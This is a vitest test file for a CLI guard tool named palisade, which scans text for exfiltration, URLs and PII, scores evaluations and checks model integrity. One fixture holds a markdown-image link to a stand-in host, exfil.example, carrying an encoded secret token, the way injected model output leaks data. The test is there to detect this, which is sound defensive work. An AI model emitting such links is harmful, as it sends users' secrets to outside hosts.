import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runEval } from './commands/eval.js';
import { runScan } from './commands/scan.js';

const bin = join(import.meta.dirname, '../../bin/palisade.js');

function palisade(args: string[], input?: string) {
  const result = spawnSync(process.execPath, [bin, ...args], { input, encoding: 'utf8', timeout: 60_000 });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

function temporary(name: string, content: string): string {
  const path = join(mkdtempSync(join(tmpdir(), 'palisade-cli-')), name);
  writeFileSync(path, content);
  return path;
}

const rows = [
  {
    id: 1,
    text: 'Here is the chart ![c](https://exfil.example/p.png?q=c2VjcmV0LXRva2VuLXZhbHVlLTEyMzQ1Ng)',
    label: 'injection',
    lang: 'en',
  },
  { id: 2, text: 'The weather is nice today.', label: 'benign', lang: 'en' },
  { id: 3, text: 'Visit http://192.168.0.1/admin now', label: 'injection', lang: 'de', extra: { nested: [1, 2] } },
];

describe('palisade scan (batch contract)', () => {
  it('writes every row back unchanged, in order, plus a palisade field', async () => {
    const input = temporary('in.jsonl', `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`);
    const output = join(mkdtempSync(join(tmpdir(), 'palisade-cli-')), 'out.jsonl');
    await runScan({ scanners: 'exfiltration,urls', input, output, textField: 'text', stage: 'output' });
    const scanned = readFileSync(output, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(scanned.map(({ palisade: _ignored, ...row }) => row)).toEqual(rows);
    expect(scanned[0].palisade.action).toBe('block');
    expect(scanned[0].palisade.findings[0]).toMatchObject({
      scanner: 'exfiltration',
      start: expect.any(Number),
      end: expect.any(Number),
    });
    expect(scanned[1].palisade).toMatchObject({ action: 'allow', findings: [] });
    expect(typeof scanned[1].palisade.score).toBe('number');
    expect(typeof scanned[1].palisade.latencyMs).toBe('number');
    expect(scanned[2].palisade.findings.map((finding: { scanner: string }) => finding.scanner)).toContain('urls');

    const report = await runEval({ input: output, labelField: 'label', groupField: 'lang' });
    expect(report.task).toBe('classification');
    expect((report.overall as { recall: number }).recall).toBe(1);
    expect((report.overall as { falsePositiveRate: number }).falsePositiveRate).toBe(0);
  });

  it('streams stdin to stdout and stops at a malformed line with exit 2 after writing earlier rows', () => {
    const input = `${JSON.stringify(rows[1])}\n${JSON.stringify(rows[0])}\n{"text": broken\n${JSON.stringify(rows[1])}\n`;
    const result = palisade(['scan', '--scanners', 'urls', '--stage', 'output'], input);
    expect(result.status).toBe(2);
    const written = result.stdout.trim().split('\n');
    expect(written).toHaveLength(2);
    for (const line of written) expect(JSON.parse(line).palisade).toBeDefined();
    expect(result.stderr.trim()).toMatch(/^palisade: invalid-input: line 3: invalid JSON/);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
  }, 120_000);

  it('rejects unknown scanners and bad usage with one line and exit 2', () => {
    const unknown = palisade(['scan', '--scanners', 'nope', '--input', '-'], '');
    expect(unknown.status).toBe(2);
    expect(unknown.stderr).toMatch(/^palisade: scanner-unknown: unknown scanner "nope"/);
    const both = palisade(['scan', '--scanners', 'urls', '--policy', 'x.yaml'], '');
    expect(both.status).toBe(2);
    expect(both.stderr).toMatch(/exactly one of --scanners/);
    const missingText = palisade(['scan', '--scanners', 'urls'], '{"body":"x"}\n');
    expect(missingText.stderr).toMatch(/line 1: missing string field "text"/);
  }, 180_000);

  it('prints help for every command', () => {
    const help = palisade(['scan', '--help']);
    expect(help.status).toBe(0);
    expect(help.stdout).toContain('--text-field');
  }, 120_000);
});

describe('palisade eval (spans)', () => {
  it('scores exact and overlap span matches per type', async () => {
    const scanned = [
      {
        text: 'mail bob@example.com',
        entities: [{ type: 'EMAIL_ADDRESS', start: 5, end: 20 }],
        palisade: {
          action: 'redact',
          score: 1,
          findings: [{ scanner: 'pii', category: 'pii.email', entity: 'EMAIL', start: 5, end: 20 }],
          latencyMs: 0.1,
        },
      },
      {
        text: 'call Ann',
        entities: [{ type: 'PERSON', start: 5, end: 8 }],
        palisade: { action: 'allow', score: 0, findings: [], latencyMs: 0.1 },
      },
    ];
    const input = temporary('spans.jsonl', `${scanned.map((row) => JSON.stringify(row)).join('\n')}\n`);
    const report = (await runEval({ input, labelField: 'label', entitiesField: 'entities' })) as {
      exact: { micro: { precision: number; recall: number }; byType: Record<string, { f1: number | null }> };
    };
    expect(report.exact.byType.EMAIL?.f1).toBe(1);
    expect(report.exact.micro.recall).toBe(0.5);
    expect(report.exact.micro.precision).toBe(1);
  });
});

describe('palisade init', () => {
  it('writes the default policy and config, creates one admin and a first app key, and is idempotent', async () => {
    const { runInit } = await import('./commands/init.js');
    const { loadPolicy, createRegistry } = await import('@palisade/guard');
    const { referenceScanners } = await import('@palisade/guard/testing');
    const dir = mkdtempSync(join(tmpdir(), 'palisade-init-'));
    const first = await runInit({ dir, admin: 'admin' });
    expect(first.wrote.map((path) => path.slice(dir.length + 1)).sort()).toEqual([
      'palisade.config.yaml',
      'policy.yaml',
    ]);
    expect(first.admin?.password?.length).toBeGreaterThanOrEqual(20);
    expect(first.appKey).toMatch(/\S{20,}/);
    const policyText = readFileSync(join(dir, 'policy.yaml'), 'utf8');
    await expect(
      loadPolicy(policyText, { file: 'policy.yaml', registry: createRegistry(referenceScanners()) }),
    ).resolves.toBeDefined();
    const second = await runInit({ dir, admin: 'admin' });
    expect(second.wrote).toEqual([]);
    expect(second.admin).toBeUndefined();
    expect(second.appKey).toBeUndefined();
  });
});

describe('palisade train', () => {
  it('rejects unknown models with a typed error', async () => {
    const { runTrain } = await import('./commands/train.js');
    await expect(runTrain('nope', {})).rejects.toMatchObject({ code: 'invalid-input' });
    await expect(runTrain('toxicity', { seed: 'x' })).rejects.toThrow(/--seed must be an integer/);
  });
});

describe('palisade serve model integrity', () => {
  it('refuses to start when a model artifact does not match its manifest', async () => {
    const { mkdirSync } = await import('node:fs');
    const { assertModelsIntact } = await import('./commands/verify.js');
    const root = mkdtempSync(join(tmpdir(), 'palisade-tamper-'));
    const folder = join(root, 'packages/guard/src/models/toxicity');
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(root, 'package-lock.json'), JSON.stringify({ packages: { '': {} } }));
    writeFileSync(join(folder, 'toxicity.bin'), 'tampered');
    writeFileSync(
      join(folder, 'manifest.json'),
      JSON.stringify({ artifacts: { 'toxicity.bin': { sha256: 'a'.repeat(64), bytes: 8 } } }),
    );
    await expect(assertModelsIntact(root)).rejects.toMatchObject({ code: 'model-integrity' });
    await expect(assertModelsIntact(join(import.meta.dirname, '../../../..'))).resolves.toBeUndefined();
  });
});
